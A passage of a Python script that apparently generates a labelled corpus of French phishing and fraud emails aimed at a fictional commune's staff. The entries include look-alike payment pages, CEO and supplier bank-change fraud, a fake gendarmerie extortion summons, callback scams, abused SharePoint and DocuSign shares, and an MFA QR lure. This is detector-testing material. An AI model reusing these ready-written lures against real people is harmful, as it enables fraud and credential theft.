    desc="EDF chèque énergie lure sent through an abused Brevo (Sendinblue) account with DKIM aligned to info-cheque-energie.fr; the button is a Brevo click-tracking redirect to a bank-detail form.",
    date="2025-05-26 12:04:38 +0200", to=COMITE, frm=("EDF Chèque énergie", "contact@info-cheque-energie.fr"),
    subject="Votre chèque énergie de 277 € vous attend", body=alt(_p, _h, "b1_edf_brevo_0d7a"))

# --- 24. Doctolib cancelled appointment and a 'reprogramming fee'
_u = f"https://doctolib-rdv-confirmation.com/patient/rdv/{h('doc', 8, '0123456789')}?t={tok('doc2', 20)}"
_p, _h = kit("doc", "Doctolib", "#107aca", "Votre rendez-vous a été annulé", [
    "Bonjour,",
    "Votre rendez-vous du <b>jeudi 12 décembre à 10h30</b> avec <b>Dr Anne Le Roux</b> (médecine générale) a été annulé "
    "suite à un défaut de confirmation d'identité.",
    "Pour reprogrammer votre consultation en priorité, confirmez vos informations. Des frais de réservation de 2,00 € "
    "remboursables seront débités.",
], "Reprogrammer mon rendez-vous", _u, "Doctolib SAS – 54 quai Charles Pasqua – 92300 Levallois-Perret")
add(vps("doc", "doctolib-rdv-confirmation.com", "45.88.90.117"),
    slug="doctolib-annulation-lookalike", cat="phishing", kind="phish",
    desc="Doctolib cancelled-appointment notice from a look-alike domain asking a 2 € 'refundable' booking fee to reschedule, which captures the card.",
    date="2024-12-10 19:33:04 +0100", to=GWEN, frm=("Doctolib", "no-reply@doctolib-rdv-confirmation.com"),
    subject="Votre rendez-vous avec Dr Anne Le Roux a été annulé", body=alt(_p, _h, "b1_doc_3ce719a4"))


# --- 25. Vinted 'you sold an item' look-alike
_u = f"https://vinted-paiement-securise.com/fr/transaction/{h('vin', 10, '0123456789')}/recevoir-fonds"
_p, _h = kit("vin", "Vinted", "#09b1ba", "Félicitations, votre article a été vendu !", [
    "Bonjour Maïwenn,",
    "L'acheteur <b>clara_b29</b> a payé votre article « Maillot US Kerhir taille M » (25,00 €). L'envoi est prépayé.",
    "Pour recevoir les fonds sur votre compte, vous devez confirmer la réception en validant votre carte bancaire. "
    "Aucun montant ne sera débité.",
], "Recevoir 25,00 €", _u, "Vinted UAB – Svitrigailos g. 13, Vilnius, Lituanie", pixel=f"https://vinted-paiement-securise.com/t/o.gif?u={tok('vinp', 10)}")
add(vps("vin", "vinted-paiement-securise.com", "45.95.232.149"),
    slug="vinted-vente-lookalike", cat="phishing", kind="phish",
    desc="Vinted 'item sold, confirm to receive the funds' notice from a look-alike domain; the page asks for full card details to 'receive' 25 €.",
    date="2025-03-03 20:41:18 +0100", to=TRESOR, frm=("Vinted", "no-reply@vinted-paiement-securise.com"),
    subject="Votre article a été vendu - recevez vos fonds", body=alt(_p, _h, "b1_vin_4f92c6e1"))

# --- 26. Leboncoin buyer from Gmail, fake secure-delivery page
_u = f"https://leboncoin.fr-livraison-securisee.com/transaction/{h('lbc', 9, '0123456789')}"
_p, _h = gmail(["Bonjour,", "",
                "Je suis intéressée par votre annonce « Barnum 6x3 m + lestage » à 180 €. Je suis à Rennes, je ne peux pas me déplacer "
                "donc j'ai déjà réglé via le paiement sécurisé Leboncoin, avec la livraison par Mondial Relay.", "",
                "Vous devez juste valider la transaction pour recevoir l'argent sur votre carte bancaire, voici le lien que "
                "le service client m'a donné :", _u, "",
                "Merci de me tenir au courant rapidement, c'est pour le mariage de ma soeur.", "", "Sophie"])
add(gmail_src("lbc", "sophie.martin.rennes35@gmail.com"),
    slug="leboncoin-acheteur-gmail", cat="phishing", kind="phish",
    desc="Fake Leboncoin buyer writing from Gmail about the comité's classified ad; the 'secure payment' link is a look-alike Leboncoin transaction page that steals the seller's card details.",
    date="2024-07-16 14:26:09 +0200", to=COMITE, frm=("Sophie Martin", "sophie.martin.rennes35@gmail.com"),
    subject="Annonce barnum 6x3", body=alt(_p, _h, f"000000000000{h('lbcb', 16)}"))

# --- 27. Crit'Air vignette renewal
_u = f"https://certificat-air-gouv.fr/commande/vignette/?immat=&ref={tok('crit', 16)}"
_p, _h = kit("crit", "Certificat qualité de l'air", "#000091", "Votre vignette Crit'Air doit être renouvelée", [
    "Madame, Monsieur,",
    "Suite à l'extension de la zone à faibles émissions (ZFE) de la métropole de Brest au <b>1er janvier 2025</b>, les "
    "vignettes Crit'Air émises avant 2020 doivent être remplacées.",
    "Commandez votre nouvelle vignette (3,77 € frais d'envoi inclus) pour éviter une amende de 68 €.",
], "Commander ma vignette", _u, "Ministère de la Transition écologique – Service Crit'Air")
add(vps("crit", "certificat-air-gouv.fr", "88.119.169.72"),
    slug="critair-vignette-lookalike", cat="phishing", kind="phish",
    desc="Crit'Air sticker renewal demand (ZFE deadline, 68 € fine threat) from certificat-air-gouv.fr, a hyphenated look-alike of the real certificat-air.gouv.fr, leading to a card form.",
    date="2024-12-18 09:47:31 +0100", to=KERVELLA, frm=("Service Crit'Air", "ne-pas-repondre@certificat-air-gouv.fr"),
    subject="ZFE : votre vignette Crit'Air doit être renouvelée", body=alt(_p, _h, "b1_crit_70e4ab19"))

# --- 28. ANTS carte grise tax incomplete
_u = f"https://ants-demarches-immatriculation.com/espace/{h('ants', 12, UP)}/paiement"
_p, _h = kit("ants", "ANTS", "#000091", "Demande de certificat d'immatriculation incomplète", [
    "Bonjour,",
    "Votre demande de certificat d'immatriculation n° <b>CI-" + h("ants2", 10, UP) + "</b> est en attente : le paiement de la taxe "
    "régionale est incomplet (<b>13,76 €</b> restant dus).",
    "Sans régularisation sous 7 jours, votre demande sera classée sans suite et votre certificat provisoire ne sera plus valable.",
], "Finaliser ma demande", _u, "Agence Nationale des Titres Sécurisés – Ministère de l'Intérieur")
add(vps("ants", "ants-demarches-immatriculation.com", "193.233.203.48"),
    slug="ants-carte-grise-lookalike", cat="phishing", kind="phish",
    desc="ANTS vehicle-registration 'tax incomplete' notice from a look-alike domain, asking 13,76 € by card on the same host.",
    date="2025-01-28 13:02:56 +0100", to=ADJ, frm=("ANTS", "notification@ants-demarches-immatriculation.com"),
    subject="Votre demande d'immatriculation est incomplète", body=alt(_p, _h, "b1_ants_5a0c3e88"))

# --- 29. Look-alike mairie domain (hyphen dropped), maire asks an urgent transfer, via Zoho
_p = ("Bonjour Sandrine,\n\nJe suis en réunion à la préfecture toute la journée et difficilement joignable.\n\n"
      "Il faut que nous réglions aujourd'hui l'acompte de 14 850,00 € pour l'entreprise qui intervient sur la toiture de "
      "l'école, sinon le chantier est décalé à septembre. Le trésorier est prévenu, je signe le mandat à mon retour.\n\n"
      "Pouvez-vous me confirmer que vous pouvez saisir le virement dès ce matin ? Je vous envoie les coordonnées bancaires "
      "de l'entreprise par retour.\n\nMerci de traiter cela en toute discrétion pour l'instant, le conseil n'est pas encore informé.\n\n"
      "Yves Quéré\nMaire de Pleumeur-Kerhir\n")
add(dict(ip="136.143.188.53", helo="sender4-op-o53.zoho.eu", mailfrom="maire@mairie-pleumeurkerhir.fr", dkim_d="mairie-pleumeurkerhir.fr",
         sel="zmail", mid=f"<{int(h('bec', 8), 16)}.{int(h('bec2', 6), 16)}.{h('bec3', 16)}@mairie-pleumeurkerhir.fr>",
         hops=[("Received: from [102.89.34.117] (102.89.34.117 [102.89.34.117]) by mx.zoho.eu\n\twith SMTPS id 1718262281034331.4468822930283; {tl}", -2)],
         xh=["X-Mailer: Zoho Mail", "Importance: high", "X-Priority: 1"]),
    slug="mairie-lookalike-virement-urgent", cat="phishing", kind="phish",
    desc="BEC from mairie-pleumeurkerhir.fr (the real domain minus one hyphen, hosted at Zoho with its own SPF/DKIM passing): the 'maire' asks the accountant for a discreet same-day 14 850 € transfer; no link or attachment.",
    date="2024-06-13 09:04:40 +0200", to=COMPTA, frm=("Yves Quéré", "maire@mairie-pleumeurkerhir.fr"),
    subject="Urgent - acompte toiture école", body=text(_p))

# --- 30. Maire impersonated from Gmail, gift cards
_p, _h = gmail(["Bonjour Nathalie,", "",
                "Êtes-vous au bureau ? J'ai besoin que vous me rendiez un service rapidement, je suis en conseil communautaire "
                "et je ne peux pas téléphoner.", "",
                "Il faudrait acheter 5 cartes Transcash de 100 € au bureau de tabac pour les lots du repas des aînés, c'est "
                "une surprise. Grattez-les et envoyez-moi les codes en photo par retour de mail.", "",
                "Je vous rembourse dès ce soir.", "", "Yves", "", "Envoyé de mon iPhone"])
add(gmail_src("gift", "yves.quere.maire29@gmail.com"),
    slug="maire-gmail-cartes-cadeaux", cat="phishing", kind="phish",
    desc="Gift-card BEC: the maire's name on a new Gmail address asks the secrétaire générale to buy five 100 € Transcash vouchers and send the codes; text only.",
    date="2025-11-20 10:17:44 +0100", to=DGS, frm=("Yves Quéré - Maire", "yves.quere.maire29@gmail.com"),
    subject="Demande", body=alt(_p, _h, f"000000000000{h('giftb', 16)}"))

# --- 31. Compromised supplier mailbox replies in a real thread with a new RIB (PDF)
_q = ("De : Sandrine Le Bihan <compta@mairie-pleumeur-kerhir.fr>\nEnvoyé : mardi 3 juin 2025 10:14\n"
      "À : Armor Signalisation - Comptabilité <comptabilite@armor-signalisation.fr>\n"
      "Objet : RE: Facture FA-2025-0118 - panneaux entrée d'agglomération\n\n"
      "Bonjour,\nLa facture FA-2025-0118 a bien été reçue, elle sera mandatée avec la prochaine série de paiements.\n"
      "Bien cordialement,\nSandrine Le Bihan\nComptabilité - Mairie de Pleumeur-Kerhir")
_p, _h = outlook(["Bonjour Madame Le Bihan,", "",
                  "Merci pour votre retour.",
                  "Je me permets de vous informer que suite à un audit interne, notre société a changé d'établissement bancaire. "
                  "Nos anciennes coordonnées ne sont plus actives depuis le 1er juin.",
                  "Merci de bien vouloir utiliser le RIB ci-joint pour le règlement de la facture FA-2025-0118 (6 384,00 € TTC) "
                  "ainsi que pour les prochains paiements, et de transmettre la modification à votre trésorerie.", "",
                  "Pouvez-vous me confirmer la prise en compte ?", "", "Bien cordialement,"],
                 "Carole Jaouen\nService comptabilité\nARMOR SIGNALISATION\nZA de Kergaradec - 29850 Gouesnou\n02 98 41 xx xx", quote=_q)
_rib = files.pdf(["RELEVE D'IDENTITE BANCAIRE", "", "Titulaire : ARMOR SIGNALISATION SAS", "Domiciliation : QONTO - 18 rue de Navarin 75009 Paris",
                  "IBAN : FR76 1695 8000 0151 7734 2286 041", "BIC : QNTOFRP1XXX", "", "Code banque 16958  Guichet 00001  Compte 51773422860  Cle 41"],
                 title="RIB Armor Signalisation")
add(m365_src("rib", "armor-signalisation.fr"),
    slug="fournisseur-rib-thread-compromis", cat="phishing", kind="phish",
    desc="Reply-chain hijack from the genuinely compromised Microsoft 365 mailbox of a road-sign supplier (all checks pass): it answers the mairie's own message about invoice FA-2025-0118 and attaches a new RIB at a neobank.",
    date="2025-06-05 16:48:13 +0200", to=COMPTA, frm=("Armor Signalisation - Comptabilité", "comptabilite@armor-signalisation.fr"),
    subject="RE: Facture FA-2025-0118 - panneaux entrée d'agglomération",
    xh=[f"In-Reply-To: <PAXP190MB7702{h('ribq', 24).upper()}@PAXP190MB7702.EURP190.PROD.OUTLOOK.COM>",
        f"References: <DB9P190MB1133{h('ribr', 24).upper()}@DB9P190MB1133.EURP190.PROD.OUTLOOK.COM>\n <PAXP190MB7702{h('ribq', 24).upper()}@PAXP190MB7702.EURP190.PROD.OUTLOOK.COM>"],
    body=mixed(alt(_p, _h, "_000_PAXP190MB1RIB_"), [pdf_att("RIB_ARMOR_SIGNALISATION.pdf", _rib)], "_004_PAXP190MB1RIB_"))

# --- 32. Look-alike supplier domain in a thread (Google Workspace), bank change, no attachment
_q = ("Bonjour Pierre,\nBien reçu le relevé de mai, le règlement part avec l'échéance du 10.\nCordialement,\n"
      "Compta Menuiserie Le Floch")
_p, _h = gmail(["Bonjour,", "",
                "Merci pour votre message.",
                "Pour information, nos coordonnées bancaires changent à compter de ce mois suite à la fusion de nos agences. "
                "Merci de ne plus effectuer de virement sur l'ancien compte Crédit Agricole.", "",
                "Pouvez-vous m'indiquer l'adresse mail de la personne qui gère les fournisseurs chez vous ? Je lui envoie le nouveau RIB "
                "signé par notre direction, il faudra le saisir avant l'échéance du 10.", "",
                "Cordialement,", "Pierre Caroff", "Service clients – BMO Négoce", "Bois & Matériaux de l'Ouest"],
               quote=_q, quote_head="Le lun. 2 juin 2025 à 11:06, Comptabilité Le Floch <compta@menuiserie-lefloch.bzh> a écrit :")
_gs = gmail_src("bmo", "p.caroff@bmo-negoces.fr")
_gs.update(dkim_d="bmo-negoces.fr", sel="google", policy="none")
add(_gs,
    slug="fournisseur-rib-lookalike-thread", cat="phishing", kind="phish",
    desc="Bank-change fraud from bmo-negoces.fr, a one-letter look-alike of the timber supplier bmo-negoce.fr on Google Workspace (own auth passes), continuing a copied thread and asking who handles supplier bank details; no link, no attachment.",
    date="2025-06-03 08:31:57 +0200", to=MCOMPTA, frm=("Pierre Caroff - BMO Négoce", "p.caroff@bmo-negoces.fr"),
    subject="Re: Relevé de compte mai 2025",
    xh=[f"In-Reply-To: <CA{tok('bmoq', 40)}@mail.gmail.com>", f"References: <CA{tok('bmoq', 40)}@mail.gmail.com>"],
    body=alt(_p, _h, f"000000000000{h('bmob', 16)}"))

# --- 33. OVH domain renewal look-alike
_u = f"https://ovhcloud-manager-billing.com/fr/manager/#/billing/renew?domain=garage-kervella.fr&ref={tok('ovh', 14)}"
_p, _h = kit("ovh", "OVHcloud", "#000e9c", "Votre nom de domaine expire aujourd'hui", [
    "Bonjour,",
    "Le nom de domaine <b>garage-kervella.fr</b> arrive à expiration aujourd'hui. Le renouvellement automatique a échoué "
    "(carte bancaire expirée).",
    "Sans renouvellement, votre site Internet et vos adresses e-mail <b>cesseront de fonctionner dans 24 heures</b>.",
    "Montant du renouvellement : 8,39 € HT pour 1 an.",
], "Renouveler mon domaine", _u, "OVH SAS – 2 rue Kellermann – 59100 Roubaix")
add(vps("ovh", "ovhcloud-manager-billing.com", "212.34.139.86"),
    slug="ovh-domaine-expire-lookalike", cat="phishing", kind="phish",
    desc="Fake OVHcloud domain-expiry notice naming the garage's real domain, from the look-alike ovhcloud-manager-billing.com, leading to a clone of the OVH manager with a card form.",
    date="2025-09-01 07:15:22 +0200", to=GACCUEIL, frm=("OVHcloud", "support@ovhcloud-manager-billing.com"),
    subject="[OVHcloud] Expiration de votre domaine garage-kervella.fr", body=alt(_p, _h, "b1_ovh_8e2d4c51"))

# --- 34. Ionos invoice, PDF link to Vercel
_u = f"https://ionos-fr-renouvellement.vercel.app/paiement?contrat={h('ion', 8, '0123456789')}"
_ipdf = files.pdf(["IONOS SARL", "7 place de la Gare - 57200 Sarreguemines", "", "FACTURE N. 202504" + h("ion2", 6, "0123456789"),
                   "Client : MENUISERIE LE FLOCH", "Pack Hebergement Business - 12 mois : 143,88 EUR TTC", "",
                   "Le prelevement automatique a echoue.", "Merci de regler la facture en ligne pour eviter la suspension du site."],
                  link=(_u, (56, 560, 300, 600)), title="Facture IONOS")
_p = ("Bonjour,\n\nLe paiement de votre facture IONOS n'a pas pu être effectué. Vous trouverez la facture en pièce jointe.\n"
      "Afin d'éviter la désactivation de votre site menuiserie-lefloch.bzh, veuillez procéder au règlement.\n\n"
      "Votre équipe IONOS\n")
add(vps("ion", "ionos-facturation.eu", "31.222.229.10", mailer=None),
    slug="ionos-facture-pdf-vercel", cat="phishing", kind="phish",
    desc="IONOS failed-payment invoice from the look-alike ionos-facturation.eu; the attached PDF's button opens a Vercel-hosted payment page.",
    date="2025-04-08 06:58:40 +0200", to=MCONTACT, frm=("IONOS", "facturation@ionos-facturation.eu"),
    subject="Échec du paiement de votre facture IONOS", body=mixed(text(_p), [pdf_att("Facture_IONOS.pdf", _ipdf)], "=_ion_0f4e2b71"))

# --- 35. Domain Name Expiration Notice scam (English)
_u = f"https://secure-dns-renewals.com/pay/?d=mairie-pleumeur-kerhir.fr&i={h('dnen', 8, '0123456789')}"
_p, _h = kit("dnen", "Domain Services", "#444444", "DOMAIN NAME EXPIRATION NOTICE", [
    "Domain Name: <b>mairie-pleumeur-kerhir.fr</b>",
    "ATTN: Accueil Mairie<br>Response Requested By: <b>15 Feb 2026</b>",
    "Your search engine submission service for mairie-pleumeur-kerhir.fr is about to expire. Failure to complete your "
    "submission by the expiration date may result in the loss of online visibility and customers.",
    "Secure online payment: 1 year – $86.00.",
    "<span style='font-size:10px'>This is not a bill. This is a solicitation. You are under no obligation to pay unless you accept this offer.</span>",
], "SECURE ONLINE PAYMENT", _u, "Domain Services – Annual search engine submission")
add(vps("dnen", "dns-notice-center.com", "23.254.229.71", mailer=None),
    slug="domain-expiration-notice-english", cat="phishing", kind="phish",
    desc="English 'Domain Name Expiration Notice' solicitation scam sent to the mairie's WHOIS contact, dressing an SEO submission fee as a domain renewal and collecting card payment.",
    date="2026-02-02 04:12:09 +0100", to=ACCUEIL, frm=("Domain Services", "notice@dns-notice-center.com"),
    subject="Domain Notice: mairie-pleumeur-kerhir.fr", body=alt(_p, _h, "b1_dnen_c20f6e4b"))

# --- 36. Fake cybergendarmerie summons (PDF, reply to another mailbox)
_cpdf = files.pdf(["GENDARMERIE NATIONALE", "Commandement de la gendarmerie dans le cyberespace (ComCyberGend)", "",
                   "CONVOCATION", "", "A la demande de Mme la Procureure de la Republique, nous vous informons qu'une",
                   "procedure judiciaire est ouverte a votre encontre pour les faits suivants :",
                   "pedopornographie, cyberpornographie, exhibitionnisme, sollicitation de mineurs.",
                   "", "Vous disposez d'un delai de 72 heures pour nous faire parvenir vos justifications",
                   "par courriel. Passe ce delai, un mandat d'arret sera transmis et votre dossier",
                   "communique aux medias et a votre employeur.", "", "Le General d'armee,",
                   "Directeur general de la Gendarmerie nationale"], title="Convocation")
_p = ("Madame, Monsieur,\n\nVeuillez trouver ci-joint une convocation officielle vous concernant.\n"
      "Merci d'en prendre connaissance et d'y répondre dans les 72 heures.\n\nCommandement de la gendarmerie dans le cyberespace\n")
add(dict(ip="82.165.159.37", helo="mout.gmx.net", mailfrom="comcybergend.convocation@europe.com", dkim_d="europe.com", sel="s1089575",
         mid=f"<trinity-{h('gend', 8)}-{h('gend2', 4)}-{h('gend3', 4)}-{h('gend4', 4)}-{h('gend5', 12)}-{1730000000000 + int(h('gend6', 6), 16)}@3c-app-mailcom-bs12>",
         xh=["X-UI-Message-Type: mail", "Importance: normal", "Sensitivity: Normal"], policy="none"),
    slug="cybergendarmerie-convocation-pdf", cat="phishing", kind="phish",
    desc="Fake ComCyberGend summons (child-abuse accusations) from a mail.com address with a reply-to on another free mailbox; the PDF threatens arrest and exposure unless the recipient answers, leading to an extortion 'fine'.",
    date="2024-10-29 15:22:18 +0100", to=DIRECTION, frm=("Gendarmerie Nationale - Cyberespace", "comcybergend.convocation@europe.com"),
    reply_to=("Cabinet DG Gendarmerie", "cabinet.dggn.plainte@proton.me"),
    subject="CONVOCATION JUDICIAIRE - DOSSIER N° 2024/CYB/" + h("gend7", 5, "0123456789"),
    body=mixed(text(_p), [pdf_att("Convocation_Gendarmerie.pdf", _cpdf)], f"=_trinity_{h('gendb', 20)}"))


# --- 37. PayPal invoice abuse with a fake Microsoft support phone number (callback)
_inv = f"INV2-{h('pp', 4, UP)}-{h('pp2', 4, UP)}-{h('pp3', 4, UP)}-{h('pp4', 4, UP)}"
_u = f"https://www.paypal.com/invoice/p/#{_inv}"
_note = ("Votre abonnement Microsoft 365 Business Premium (5 licences) a été renouvelé pour 399,99 €. Le prélèvement sera "
         "effectué sous 24h. Si vous n'êtes pas à l'origine de cette commande, appelez immédiatement le support Microsoft "
         "au +33 9 74 99 18 62 pour annuler et être remboursé.")
_p, _h = kit("pp", "PayPal", "#003087", "Microsoft Support Billing vous a envoyé une facture de 399,99 € EUR", [
    "Facture n° <b>MS-" + h("pp5", 6, "0123456789") + "</b> – Date d'échéance : à réception",
    "<b>Note du vendeur :</b><br>" + _note,
    "Montant dû : <b>399,99 € EUR</b>",
], "Voir et payer la facture", _u,
    "PayPal Europe S.à r.l. et Cie, S.C.A. – 22-24 Boulevard Royal – L-2449 Luxembourg<br>"
    "Ne communiquez jamais votre mot de passe par téléphone ou par e-mail.")
add(dict(ip="173.0.84.226", helo="mx0.slc.paypal.com", mailfrom="service@paypal.fr", dkim_d="paypal.fr", sel="pp-dkim1", policy="reject",
         mid=f"<{h('ppm', 12)}.{h('ppm2', 12)}@ccg01mail04>", xh=["X-Email-Type-Id: PPC000000", f"X-PP-REQUESTED-TIME: {int(h('ppt', 8), 16)}"]),
    slug="paypal-facture-faux-support-microsoft", cat="phishing", kind="phish",
    desc="Genuine PayPal invoice (paypal.fr, all checks pass) created by a scammer's merchant account: the seller note claims a 399,99 € Microsoft 365 renewal and gives a fake Microsoft support number to call.",
    date="2025-02-25 03:41:27 +0100", to=MCONTACT, frm=("service@paypal.fr", "service@paypal.fr"),
    subject="Facture de Microsoft Support Billing (MS-" + h("pp5", 6, "0123456789") + ")", body=alt(_p, _h, "--=_PP_" + h("ppb", 12)))

# --- 38. Genuine SharePoint share from a compromised construction firm's tenant
_u = f"https://lemeurbtp.sharepoint.com/:o:/s/Commercial/E{tok('spo', 46)}?e={tok('spo2', 6)}"
_h = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Tahoma,sans-serif;background:#f3f2f1">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="520" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #e1dfdd">
<tr><td style="padding:24px 24px 8px 24px;font-size:21px;color:#323130">Kevin Le Meur a partagé un fichier avec vous</td></tr>
<tr><td style="padding:8px 24px;font-size:14px;color:#605e5c">Bonjour, voici le devis de rénovation de la salle polyvalente comme convenu. Merci de valider avant le conseil.</td></tr>
<tr><td style="padding:12px 24px"><table style="border:1px solid #e1dfdd;width:100%"><tr><td style="padding:12px;font-size:14px;color:#323130">
<b>Devis_Renovation_Salle_Polyvalente_2025</b></td></tr></table></td></tr>
<tr><td style="padding:12px 24px 24px 24px"><a href="{_u}" style="background:#0f6cbd;color:#ffffff;padding:9px 20px;text-decoration:none;font-size:14px;border-radius:4px">Ouvrir</a></td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#8a8886;border-top:1px solid #e1dfdd">Ce lien fonctionne uniquement pour les destinataires directs de ce message.<br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#8a8886">Déclaration de confidentialité</a> · Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
"""
_p = ("Kevin Le Meur a partagé un fichier avec vous\n\nBonjour, voici le devis de rénovation de la salle polyvalente comme convenu. "
      f"Merci de valider avant le conseil.\n\nDevis_Renovation_Salle_Polyvalente_2025\nOuvrir : {_u}\n")
_sp = m365_src("spo", "sharepointonline.com")
_sp.update(hops=[], mid=f"<{h('spom', 8)}-{h('spom2', 4)}-{h('spom3', 4)}-{h('spom4', 4)}-{h('spom5', 12)}@odspnotify>",
           xh=[f"X-MS-Exchange-Organization-SharePoint-Tenant: lemeurbtp", "X-MS-SPO-Notification: ShareNotification"])
add(_sp, mailfrom="no-reply@sharepointonline.com",
    slug="sharepoint-partage-tenant-compromis", cat="phishing", kind="phish",
    desc="Genuine SharePoint Online sharing notification (sharepointonline.com, all checks pass) sent from a builder's hijacked tenant: the shared 'devis' is a OneNote page whose link leads to a Microsoft 365 credential phish.",
    date="2025-05-13 11:26:50 +0200", to=DGS, frm=("Kevin Le Meur", "no-reply@sharepointonline.com"),
    reply_to=("Kevin Le Meur", "k.lemeur@lemeur-btp.fr"),
    subject="Kevin Le Meur a partagé « Devis_Renovation_Salle_Polyvalente_2025 » avec vous", body=alt(_p, _h, "_spo_alt_" + h("spob", 12)))

# --- 39. OneDrive look-alike, Google Cloud Storage landing
_u = f"https://storage.googleapis.com/odsp-share-{h('od', 6)}/index.html#urbanisme@mairie-pleumeur-kerhir.fr"
_p, _h = kit("od", "OneDrive", "#0364b8", "3 fichiers partagés avec vous", [
    "<b>Géomètre Expert - Cabinet Le Gall</b> a partagé 3 fichiers avec vous :",
    "📄 DP_Kerhir_Bourg_plan_masse.pdf<br>📄 Bornage_parcelle_AB142.pdf<br>📄 Certificat_urbanisme_CUb.pdf",
    "Ces fichiers expirent dans 7 jours.",
], "Afficher les fichiers", _u, "Microsoft OneDrive – Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")
add(vps("od", "onedrive-partage-docs.com", "103.106.229.41", mailer=None),
    slug="onedrive-lookalike-gcs", cat="phishing", kind="phish",
    desc="OneDrive 'three files shared' look-alike aimed at the urbanisme service (survey and planning file names) from onedrive-partage-docs.com; the link is a Google Cloud Storage page with the victim's address in the fragment.",
    date="2025-07-22 10:08:16 +0200", to=URBA, frm=("OneDrive", "partage@onedrive-partage-docs.com"),
    subject="Géomètre Expert - Cabinet Le Gall a partagé des fichiers avec vous", body=alt(_p, _h, "b1_od_1e5c9a02"))

# --- 40. Genuine DocuSign envelope abused (account created by the attacker)
_g = lambda k: f"{h(k, 8)}-{h(k + '1', 4)}-{h(k + '2', 4)}-{h(k + '3', 4)}-{h(k + '4', 12)}"
_u = f"https://eu.docusign.net/Signing/EmailStart.aspx?a={_g('ds')}&etti=24&acct={_g('dsa')}&er={_g('dse')}"
_p, _h = kit("ds", "DocuSign", "#1e1e5a", "SCI Kerguelen vous a envoyé un document à vérifier et signer.", [
    "<b>SCI Kerguelen</b><br>gestion@sci-kerguelen.fr",
    "Monsieur le Maire, veuillez trouver l'avenant n°2 à la convention d'occupation du terrain communal (parcelle ZC 88). "
    "Le document contient le lien vers les annexes cadastrales.",
    "<span style='font-size:11px'>Ne partagez pas cet e-mail. Cet e-mail contient un lien sécurisé vers Docusign. Merci de ne pas partager cet e-mail, ce lien ou le code d'accès avec d'autres personnes.</span>",
], "EXAMINER LE DOCUMENT", _u, "Propulsé par Docusign<br>Autre méthode de signature : rendez-vous sur docusign.com, cliquez sur « Accéder aux documents » et saisissez le code de sécurité : "
    + h("dsc", 32, UP), pixel=f"https://eu.docusign.net/member/ImageGen.ashx?t={_g('dsp')}")
add(dict(ip="185.111.51.34", helo="mailfr4.eu.docusign.net", mailfrom=f"bounces+{h('dsb', 10, '0123456789')}@eumail.docusign.net",
         dkim_d="docusign.net", sel="eu", policy="reject", mid=f"<{h('dsm', 32)}@docusign.net>",
         xh=["X-DocuSign-Envelope-Source: API"]),
    slug="docusign-enveloppe-abus", cat="phishing", kind="phish",
    desc="Real DocuSign envelope (docusign.net, all checks pass) from an attacker-created 'SCI Kerguelen' account addressed to the maire; the signed document only carries a link to a credential-harvesting annex page.",
    date="2025-10-14 16:55:03 +0200", to=MAIRE, frm=("SCI Kerguelen via Docusign", "dse@eumail.docusign.net"),
    reply_to=("SCI Kerguelen", "gestion@sci-kerguelen.fr"),
    subject="Complétez avec Docusign : Avenant_2_Convention_occupation_ZC88.pdf", body=alt(_p, _h, "b1_ds_" + h("dsbb", 12)))

# --- 41. Yousign look-alike with a Notion page
_u = f"https://yousign-documents.notion.site/Document-a-signer-{h('ys', 32)}"
_p, _h = kit("ys", "Yousign", "#6f42c1", "Vous avez un document à signer", [
    "Bonjour,",
    "<b>Cabinet Tanguy & Associés (expert-comptable)</b> vous invite à signer le document <b>« Lettre de mission 2025 - OGEC Saint-Yves »</b>.",
    "Date limite de signature : 18/01/2025.",
], "Consulter le document", _u, "Yousign SAS – 8 rue du Cirque – 75008 Paris")
add(vps("ys", "yousign-signature.net", "89.185.85.12", mailer=None),
    slug="yousign-lookalike-notion", cat="phishing", kind="phish",
    desc="Yousign signature request look-alike from yousign-signature.net to the school's OGEC treasurer; the link is a Notion page that forwards to a Google Workspace credential phish.",
    date="2025-01-13 09:21:44 +0100", to=OGEC, frm=("Yousign", "no-reply@yousign-signature.net"),
    subject="Cabinet Tanguy & Associés vous invite à signer un document", body=alt(_p, _h, "b1_ys_3b0ce1a7"))

# --- 42. Microsoft 365 MFA re-registration with an inline QR code
_u = f"https://ms-authverify.top/?u={base64.b64encode(COMPTA[1].encode()).decode()}&s={tok('mfa', 12)}"
_h = ('<html><body style="font-family:Segoe UI,Arial;color:#323130">'
      '<div style="max-width:540px;margin:auto;padding:20px;border:1px solid #edebe9">'
      '<div style="font-size:20px;font-weight:600;margin-bottom:12px">Microsoft 365</div>'
      '<p>Bonjour compta,</p><p>La configuration de l\'authentification multifacteur (MFA) de votre compte '
      '<b>compta@mairie-pleumeur-kerhir.fr</b> doit être renouvelée avant le <b>14/03/2025</b>, conformément à la politique de sécurité de votre organisation.</p>'
      '<p>Scannez le code QR ci-dessous avec l\'appareil photo de votre téléphone pour reconfigurer Microsoft Authenticator :</p>'
      '<p style="text-align:center"><img src="cid:image001.png@01DB8F2A.6C4B1E30" width="180" height="180" alt=""></p>'
      '<p style="font-size:12px;color:#605e5c">Ce code expire dans 48 heures. – Service informatique</p></div></body></html>\n')
_p = ("Microsoft 365\n\nLa configuration de l'authentification multifacteur (MFA) de votre compte doit être renouvelée avant le 14/03/2025.\n"
      "Scannez le code QR avec l'appareil photo de votre téléphone.\n")
add(vps("mfa", "m365-secure-account.com", "141.98.10.67", mailer=None),
    slug="m365-mfa-qr-inline", cat="phishing", kind="phish",
    desc="Microsoft 365 MFA re-registration demand to the mairie accountant from a look-alike domain, whose only lure is an inline QR code encoding a .top adversary-in-the-middle page with the address in base64.",
    date="2025-03-11 08:14:22 +0100", to=COMPTA, frm=("Microsoft 365", "security@m365-secure-account.com"),
    subject="Action requise : reconfigurez votre authentification MFA",
    body=Multi("related", "rel_mfa_5c9e", [alt(_p, _h, "alt_mfa_5c9e"), png("image001.png", files.qr_png(_u), "image001.png@01DB8F2A.6C4B1E30")], ' type="multipart/alternative";'))

# --- 43. Genuine Google Drive share from an attacker Gmail account
